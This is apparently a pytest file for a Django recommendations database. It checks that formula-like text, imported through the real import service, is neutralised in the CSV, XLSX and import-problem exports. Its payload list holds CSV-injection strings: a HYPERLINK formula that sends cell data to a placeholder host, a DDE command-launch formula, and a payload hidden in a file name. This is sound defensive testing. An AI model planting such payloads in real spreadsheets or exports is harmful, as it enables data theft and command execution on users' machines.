"""Issue 19, item 1: recommendation text that starts like a formula, imported through the real
import service, comes out of every file nrtd writes as text, never as a live formula."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from recommendations.imports.jobs import import_job_create
from recommendations.models import ImportJob, Recommendation, Review
from reporting.services.runs import report_run_create

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://x/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


def _upload(admin, name: str, records: list[dict], capture) -> ImportJob:
    upload = SimpleUploadedFile(name, json.dumps(records).encode(), "application/json")
    with capture(execute=True):
        job = import_job_create(actor=admin, uploaded_file=upload)
    job.refresh_from_db()
    return job


def _record(n: int, text: str, **extra) -> dict:
    return {
        "text": text,
        "paragraph": f"{n}.1",
        "mechanism": "upr",
        "body": "UPR",
        "response": "supported",
        "review": {"state_under_review": "SVN", "cycle": 3, "session": 34},
        **extra,
    }


@pytest.fixture
def imported(reference_data, admin, django_capture_on_commit_callbacks):
    records = [_record(n, text) for n, text in enumerate(PAYLOADS, start=1)]
    job = _upload(admin, "payloads.json", records, django_capture_on_commit_callbacks)
    assert job.status == "done", job.errors
    assert sorted(Recommendation.objects.values_list("text", flat=True)) == sorted(PAYLOADS)
    return job


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _xlsx_cells(body: bytes) -> list:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_texts_kept(cells):
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert set(PAYLOADS) <= values


def test_open_data_csv_neutralises_formulas_and_keeps_the_text(imported, client):
    response = client.get("/recommendations/download.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(_body(response).decode("utf-8-sig"))))
    # OWASP: the apostrophe makes a spreadsheet show the field as text; the rest is verbatim.
    assert sorted(row["text"] for row in rows) == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_open_data_xlsx_has_no_formula_cell(imported, client):
    response = client.get("/recommendations/download.xlsx")
    assert response.status_code == 200
    _assert_texts_kept(_xlsx_cells(_body(response)))


def test_implementation_matrix_has_no_formula_cell(
    imported, admin, client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        run = report_run_create(
            actor=admin, kind="matrix", formats=["xlsx"], review=Review.objects.get()
        )
    run.refresh_from_db()
    assert run.status == "done", run.error
    client.force_login(admin)
    response = client.get(f"/workspace/reports/runs/{run.pk}/xlsx/")
    assert response.status_code == 200
    _assert_texts_kept(_xlsx_cells(_body(response)))


def test_import_problem_report_neutralises_formulas(
    reference_data, admin, client, django_capture_on_commit_callbacks
):
    # A problem names the file first; here the file's name itself is a payload.
    job = _upload(
        admin,
        "@SUM(1,1).json",
        [_record(1, "Abolish the death penalty", body="=cmd|' /C calc'!A0")],
        django_capture_on_commit_callbacks,
    )
    assert job.errors
    assert job.errors[0].startswith("@SUM(1,1).json")
    client.force_login(admin)
    response = client.get(f"/workspace/imports/{job.pk}/problems.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["problem"]
    assert [row[0] for row in rows[1:]] == ["'" + problem for problem in job.errors]
